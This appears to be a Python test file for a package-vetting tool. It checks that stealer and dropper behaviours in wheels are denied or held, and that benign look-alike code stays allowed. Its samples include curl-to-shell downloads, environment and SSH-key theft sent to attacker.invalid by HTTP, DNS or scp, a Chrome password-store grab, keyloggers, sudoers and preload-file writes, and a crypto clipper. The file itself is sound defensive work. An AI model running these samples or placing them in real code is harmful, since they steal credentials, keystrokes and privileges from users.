"""What real stealers and droppers do, read as behaviour (ADR 0076): a payload in a
comprehension's condition or second loop, the environment sent through a dict comprehension
or through DNS names, system files that run or resolve things written by their plain path,
a browser's locked password store copied before it is opened, a screenshot or a secret
written into a buffer that is then sent, the user's or machine's name read from a command's
output and sent, and a keyboard hook whose keys are sent.

Each sample is inert (a command ``id`` or a download from ``attacker.invalid``; vetting
only reads files) and each was allowed or only held on 70aaa8c. The near-misses are the
shapes real packages use, and stay allowed; two of them were denied on 70aaa8c."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, vet_wheel

DROP = "os.system('curl http://attacker.invalid/x | sh')"
POST = "requests.post('https://attacker.invalid/u', data={data})"


def _verdict(text: str) -> Outcome:
    return vet_wheel(init(text))


DENIED: dict[str, str] = {
    # Held when bytes reversed first folded (ADR 0076); a list of byte values spelling code
    # is recovered as decoded text is since ADR 0080.
    "code-spelt-backwards-in-bytes": (
        "exec(bytes(reversed(b')\"di\"(metsys.so;so tropmi')).decode())\n"
    ),
    # Comprehensions: every clause runs when the comprehension does.
    "list-comprehension-condition": f"import os\nX = [a for a in 'ab' if {DROP}]\n",
    "generator-condition": f"import os\nany(1 for a in 'ab' if {DROP})\n",
    "set-comprehension-condition": f"import os\nX = {{a for a in 'ab' if {DROP}}}\n",
    "dict-comprehension-condition": f"import os\nX = {{a: 1 for a in 'ab' if {DROP}}}\n",
    "second-loop-iterable": f"import os\nX = [x for a in 'a' for x in [{DROP}]]\n",
    "second-loop-condition": f"import os\nX = [x for a in 'a' for x in 'b' if {DROP}]\n",
    # The environment, whole, through a dict comprehension or DNS names.
    "environment-through-a-dict-comprehension": (
        "import os, requests\n"
        + POST.format(data="str({k: v for k, v in os.environ.items()})")
        + "\n"
    ),
    "environment-through-dns-names": (
        "import os, socket\nfor k, v in os.environ.items():\n"
        "    socket.gethostbyname(v.encode().hex()[:60] + '.d.attacker.invalid')\n"
    ),
    "environment-values-through-getaddrinfo": (
        "import os, socket\nfor v in os.environ.values():\n"
        "    socket.getaddrinfo(v + '.d.attacker.invalid', 53)\n"
    ),
    # System files written by their plain path: no word the prefilter knew was in them.
    "hosts-file": "with open('/etc/hosts', 'a') as f:\n    f.write('203.0.113.9 pypi.org\\n')\n",
    "preloaded-library": "open('/etc/ld.so.preload', 'w').write('/tmp/x.so')\n",
    "sudoers-drop-in": "open('/etc/sudoers.d/x', 'w').write('ALL ALL=(ALL) NOPASSWD: ALL')\n",
    "login-script": "open('/etc/profile.d/x.sh', 'w').write('id')\n",
    # A browser's password store is locked while it runs: stealers copy it first.
    "browser-passwords-copied-then-read": (
        "import os, shutil, sqlite3, requests\n"
        "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', "
        "'Default', 'Login Data')\nshutil.copy(p, 'ld.db')\n"
        "rows = sqlite3.connect('ld.db').execute('select * from logins').fetchall()\n"
        + POST.format(data="str(rows)")
        + "\n"
    ),
    "ssh-key-copied-then-read": (
        "import os, shutil, requests\n"
        "shutil.copyfile(os.path.expanduser('~/.ssh/id_rsa'), '/tmp/k')\n"
        + POST.format(data="open('/tmp/k').read()")
        + "\n"
    ),
    # Data written into a buffer, then the buffer sent.
    "screenshot-saved-into-a-buffer": (
        "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\n"
        "ImageGrab.grab().save(b, 'PNG')\n" + POST.format(data="b.getvalue()") + "\n"
    ),
    "environment-dumped-into-a-buffer": (
        "import io, json, os, requests\nb = io.StringIO()\njson.dump(dict(os.environ), b)\n"
        + POST.format(data="b.getvalue()")
        + "\n"
    ),
    # Who and where the machine is, read from a command's output and sent on import.
    "user-name-from-whoami": (
        "import os, requests\nu = os.popen('whoami').read()\n"
        "requests.get('https://example.com/?u=' + u)\n"
    ),
    "host-name-from-a-command": (
        "import subprocess, urllib.request\nh = subprocess.check_output(['hostname'])\n"
        "urllib.request.urlopen('https://example.com/p', data=h)\n"
    ),
    "clipboard-sent-from-a-gui-toolkit": (
        "import tkinter, requests\nr = tkinter.Tk()\n"
        + POST.format(data="r.clipboard_get()")
        + "\n"
    ),
    "git-identity": (
        "import subprocess, requests\ne = subprocess.getoutput('git config user.email')\n"
        + POST.format(data="e")
        + "\n"
    ),
    # Sent through a command instead of a socket.
    "user-name-in-a-name-looked-up-by-nslookup": (
        "import getpass, subprocess\n"
        "subprocess.run(['nslookup', getpass.getuser() + '.x.attacker.invalid'])\n"
    ),
    "key-copied-away-by-scp": (
        "import os\nos.system('scp ~/.ssh/id_rsa u@attacker.invalid:/tmp/')\n"
    ),
    # Keys pressed, handed to a callback that sends them.
    "pynput-keylogger": (
        "import requests\nfrom pynput import keyboard\n\n\ndef on(key):\n"
        "    " + POST.format(data="str(key)") + "\n\n\n"
        "keyboard.Listener(on_press=on).start()\n"
    ),
    "keyboard-hook": (
        "import keyboard, requests\n\n\ndef on(event):\n"
        "    " + POST.format(data="event.name") + "\n\n\nkeyboard.on_press(on)\n"
    ),
}

# A command run on import holds, wherever in a dict comprehension it is written; so does a
# clipper, whatever reads the clipboard, and code spelt backwards in bytes.
HELD: dict[str, str] = {
    "tkinter-clipper": (
        "import re, tkinter\nr = tkinter.Tk()\nt = r.clipboard_get()\n"
        "if re.match('^bc1[a-z0-9]{25,39}$', t):\n    r.clipboard_clear()\n"
        "    r.clipboard_append('bc1qattacker')\n"
    ),
    "win32-clipboard-read": (
        "import win32clipboard\nwin32clipboard.OpenClipboard()\n"
        "t = win32clipboard.GetClipboardData()\n"
    ),
    "dict-comprehension-iterable": "import os\nX = {k: 1 for k in [os.system('id')]}\n",
    "dict-comprehension-value": "import os\nX = {k: os.system(k) for k in ['id']}\n",
    "dict-comprehension-condition": "import os\nX = {k: 1 for k in 'ab' if os.system('id')}\n",
}

ALLOWED: dict[str, str] = {
    # Resolving a constant host name sends nothing (it was "DNS exfiltration" on 70aaa8c).
    "resolving-a-constant-name": (
        "import socket\n\n\ndef reachable():\n    return socket.gethostbyname('upload.pypi.org')\n"
    ),
    # A service named by the environment under its cluster's domain, resolved when asked
    # (denied on 70aaa8c).
    "service-name-from-the-environment": (
        "import os, socket\n\n\ndef address():\n"
        "    return socket.gethostbyname(os.environ['SERVICE'] + '.default.svc.cluster.local')\n"
    ),
    "comprehension-with-a-plain-condition": (
        "import os\nNAMES = [n for n in os.listdir('.') if n.endswith('.py') and n != 'x.py']\n"
        "TABLE = {n: len(n) for n in NAMES if not n.startswith('_')}\n"
    ),
    "reading-the-os-release-file": (
        "def distro():\n    with open('/etc/os-release') as f:\n"
        "        return dict(line.strip().split('=', 1) for line in f if '=' in line)\n"
    ),
    "configuration-copied-then-read": (
        "import shutil, requests\n\n\ndef upload(url):\n"
        "    shutil.copy('settings.ini', '/tmp/s.ini')\n"
        "    return requests.post(url, data=open('/tmp/s.ini').read())\n"
    ),
    "picture-saved-into-a-buffer-and-uploaded": (
        "import io, requests\n\n\ndef upload(img, url):\n    b = io.BytesIO()\n"
        "    img.save(b, 'PNG')\n    return requests.post(url, files={'f': b.getvalue()})\n"
    ),
    "machine-type-from-uname": (
        "import subprocess\n\n\ndef machine():\n"
        "    return subprocess.check_output(['uname', '-m']).decode().strip()\n"
    ),
    "editor-pasting-when-asked": (
        "import tkinter\n\n\nclass Editor(tkinter.Text):\n    def paste(self):\n"
        "        self.insert('insert', self.clipboard_get())\n"
    ),
    "own-host-pinged-when-asked": (
        "import socket, subprocess\n\n\ndef reachable():\n"
        "    return subprocess.run(['ping', '-c', '1', socket.gethostname()]).returncode == 0\n"
    ),
    "hotkey-that-sends-nothing": (
        "from pynput import keyboard\n\n\ndef run(action):\n"
        "    with keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': action}) as h:\n        h.join()\n"
    ),
}


@pytest.mark.parametrize("name", sorted(DENIED))
def test_a_stealers_behaviour_is_denied(name: str) -> None:
    assert _verdict(DENIED[name]) is Outcome.DENY, name


@pytest.mark.parametrize("name", sorted(HELD))
def test_a_command_in_a_dict_comprehension_or_a_clipper_holds(name: str) -> None:
    assert _verdict(HELD[name]) is Outcome.HOLD, name


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_the_same_shape_in_a_real_package_stays_allowed(name: str) -> None:
    assert _verdict(ALLOWED[name]) is Outcome.ALLOW, name
